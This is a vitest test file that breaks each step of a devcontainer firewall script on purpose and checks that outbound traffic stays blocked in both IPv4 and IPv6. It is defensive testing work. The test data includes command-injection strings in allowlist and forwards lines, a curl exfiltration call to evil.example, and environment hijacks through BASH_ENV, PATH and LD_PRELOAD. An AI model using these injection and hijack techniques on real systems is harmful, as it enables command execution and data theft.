import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newToken } from '../firewall/attacks/attack.js';
import { type Internet, startInternet } from '../firewall/internet.js';
import { run } from '../firewall/run.js';
import { baseImages, ensureImage } from './base-images.js';
import { docker, harden, missingEngine } from './engine.js';

// Every step of init-firewall.sh that can fail is made to fail; each time everything must be closed afterwards, in both
// families, and the message must name the cause.

const skip = missingEngine() !== undefined;
const config = '/etc/harden-devcontainer';

const failures: readonly { name: string; breakIt: string; says: RegExp }[] = [
  {
    name: 'a line of the allowlist is not a host name',
    breakIt: `echo '$(id)' >>${config}/allowlist`,
    says: /allowlist line \d+: '\$\(id\)' is not a name/,
  },
  {
    name: 'the allowlist holds a terminal escape',
    breakIt: `printf '\\033[2J.example\\n' >>${config}/allowlist`,
    says: /allowlist line \d+: '\?\[2J\.example'/,
  },
  {
    name: 'the allowlist opens everything',
    breakIt: `echo '0.0.0.0/0' >>${config}/allowlist`,
    says: /allowlist line \d+/,
  },
  { name: 'the allowlist is missing', breakIt: `rm ${config}/allowlist`, says: /allowlist is missing/ },
  {
    name: 'a port is too high',
    breakIt: `echo 'a.example:70000' >>${config}/allowlist`,
    says: /'a.example:70000' names no port from 1 to 65535/,
  },
  {
    name: 'a forward is not NAME PORT',
    breakIt: `echo 'x 80;id' >>${config}/forwards`,
    says: /forwards line \d+/,
  },
  {
    name: 'the host has no address for a forward',
    breakIt: `echo 'x 18123' >>${config}/forwards; echo '127.0.0.1 localhost' >/etc/hosts`,
    says: /no IPv4 address for host.docker.internal/,
  },
  { name: 'ipset is missing', breakIt: 'rm /usr/sbin/ipset', says: /ipset is missing from the image/ },
  {
    name: 'the kernel has no ip_set',
    breakIt: "printf '#!/bin/sh\\nexit 1\\n' >/usr/sbin/ipset",
    says: /cannot create the address sets/,
  },
  {
    name: 'the resolver is missing',
    breakIt: 'rm /usr/sbin/dnsmasq',
    says: /dnsmasq is missing from the image/,
  },
  {
    name: 'the resolver has no user',
    breakIt: "sed -i '/^harden-resolver:/d' /etc/passwd",
    says: /no user harden-resolver/,
  },
  {
    name: 'ip6tables is missing',
    breakIt: 'rm /usr/sbin/ip6tables',
    says: /ip6tables is missing from the image/,
  },
  { name: 'the IPv4 rules are refused', breakIt: second('iptables-restore'), says: /refuses the IPv4 rules/ },
  {
    name: 'the IPv6 rules are refused',
    breakIt: second('ip6tables-restore'),
    says: /refuses the IPv6 rules/,
  },
  {
    name: 'resolv.conf cannot be read',
    breakIt: 'umount /etc/resolv.conf 2>/dev/null; chmod 0000 /etc/resolv.conf',
    says: /reading the name servers|failed while/,
  },
];

/** Replaces a program by one that works the first time and fails the second. */
function second(program: string): string {
  return `mv /usr/sbin/${program} /usr/sbin/real-${program}
printf '#!/bin/sh\\n[ -e /run/once ] && exit 2\\ntouch /run/once\\nexec -a ${program} /usr/sbin/real-${program} "$@"\\n' | sed 's,^#!/bin/sh,#!/bin/bash,' >/usr/sbin/${program}
chmod 0755 /usr/sbin/${program}`;
}

describe.skipIf(skip)('init-firewall.sh when a step fails', () => {
  let internet: Internet;
  let folder: string;
  let image: string;

  beforeAll(async () => {
    internet = await startInternet();
    folder = mkdtempSync(join(tmpdir(), 'harden-failing-'));
    const outcome = harden(
      'init',
      folder,
      '--yes',
      '--stack',
      'none',
      '--agent',
      'none',
      '--allow',
      'allowed.example',
    );
    if (outcome.code !== 0) throw new Error(outcome.stderr);
    const dockerfile = join(folder, '.devcontainer', 'Dockerfile');
    for (const base of baseImages(readFileSync(dockerfile, 'utf8'))) ensureImage(base);
    image = docker('build', '--quiet', join(folder, '.devcontainer'));
  });

  afterAll(() => {
    internet?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Runs the script as PID 1 would, with the capabilities that devcontainer.json gives, after `breakIt`. */
  function start(breakIt: string, token: string): string {
    const capabilities = ['NET_ADMIN', 'NET_RAW', 'NET_BIND_SERVICE', 'SETUID', 'SETGID', 'SETPCAP', 'KILL'];
    const script = `
${breakIt}
/usr/local/sbin/init-firewall.sh; echo "code=$?"
for tables in iptables ip6tables; do echo "$tables: $("$(command -v "$tables" || echo /usr/sbin/xtables-nft-multi)" $([ -e /usr/sbin/$tables ] || echo $tables) -S OUTPUT | head -1)"; done
setpriv --reuid dev --regid dev --clear-groups curl -sS -m 3 http://198.18.0.66/${token}
setpriv --reuid dev --regid dev --clear-groups curl -sS -m 3 http://evil.example/${token}
true`;
    const { stdout, stderr } = run('docker', [
      'run',
      '--rm',
      '--user',
      'root',
      `--dns=${internet.nameServer}`,
      '--cap-drop=ALL',
      ...capabilities.map((name) => `--cap-add=${name}`),
      '--security-opt=no-new-privileges',
      '--entrypoint',
      'bash',
      image,
      '-c',
      script,
    ]);
    return `${stdout}\n${stderr}`;
  }

  it('works when nothing is broken, and the attack works without it', () => {
    const open = newToken();
    run('docker', [
      'run',
      '--rm',
      `--dns=${internet.nameServer}`,
      '--entrypoint',
      'curl',
      image,
      '-sS',
      '-m',
      '3',
      `http://198.18.0.66/${open}`,
    ]);
    expect(internet.arrived(open)).toBe(true);

    const token = newToken();
    expect(start('true', token)).toContain('code=0');
    expect(internet.arrived(token)).toBe(false);
  });

  it.each(failures)('stays closed when $name', ({ breakIt, says }) => {
    const token = newToken();
    const printed = start(breakIt, token);
    expect(printed).toMatch(/code=[1-9]/);
    expect(printed).toMatch(says);
    expect(printed).toContain('iptables: -P OUTPUT DROP');
    expect(printed).toContain('ip6tables: -P OUTPUT');
    expect(internet.arrived(token)).toBe(false);
  });

  it('ends the container', () => {
    const broken = docker(
      'run',
      '--detach',
      '--user',
      'root',
      '--cap-drop=ALL',
      '--security-opt=no-new-privileges',
      image,
    );
    try {
      expect(docker('wait', broken)).toBe('1');
      expect(run('docker', ['logs', broken]).stderr).toMatch(/is NET_ADMIN given/);
    } finally {
      docker('rm', '--force', broken);
    }
  });

  it.each(['BASH_ENV=/tmp/evil.sh', 'ENV=/tmp/evil.sh', 'PATH=/tmp/evil:/usr/bin:/bin', 'LD_PRELOAD='])(
    'takes nothing from its environment: %s',
    (setting) => {
      const token = newToken();
      const printed = start(
        `mkdir -p /tmp/evil; printf 'echo CAPTURED >&2\\n' >/tmp/evil.sh; for p in iptables ipset id awk cat; do printf '#!/bin/sh\\necho CAPTURED >&2\\n' >/tmp/evil/$p; chmod 755 /tmp/evil/$p; done; export ${setting}; iptables() { echo CAPTURED >&2; }; export -f iptables`,
        token,
      );
      const firewall = printed.split('code=')[0] ?? '';
      expect(printed).toContain('code=0');
      expect(firewall).not.toContain('CAPTURED');
    },
  );
});
